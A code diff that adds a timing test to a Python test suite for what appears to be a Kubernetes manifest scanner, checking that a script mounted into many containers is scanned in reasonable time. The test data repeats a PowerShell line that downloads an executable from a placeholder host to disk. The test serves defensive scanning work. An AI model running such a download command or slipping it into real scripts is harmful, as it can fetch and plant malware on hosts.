@@ -332,6 +332,18 @@ def test_time_grows_with_the_text(piece: str) -> None:
         assert seconds(lambda: partial(scan_text, manifest, context)) < 1  # noqa: B023 - called at once
 
 
+def test_a_script_that_many_containers_run_is_read_once() -> None:
+    script = "iwr https://x/a.exe -OutFile C:\\k\\a.exe; $a = 'b' + 'c'\n" * 2000
+    config = json.dumps({**SCRIPT, "data": {"run.ps1": script}})
+    running = {"command": ["powershell", "-File", "C:\\s\\run.ps1"], "volumeMounts": [{"name": "v", "mountPath": "/s"}]}
+
+    def scan(number: int) -> None:
+        containers = [{"name": f"c{n}", "image": "registry.example/a:1.0.0", **running} for n in range(number)]
+        scan_text(f"{config}\n---\n{pod({**VOLUMES, 'initContainers': containers})}", NEW)
+
+    assert seconds(lambda: partial(scan, 60)) < 6 * seconds(lambda: partial(scan, 2))
+
+
 def test_a_chart_s_scripts_are_read(tmp_path: Path) -> None:
     """The script in a template of its own, which says nothing of HostProcess."""
     mounts = (
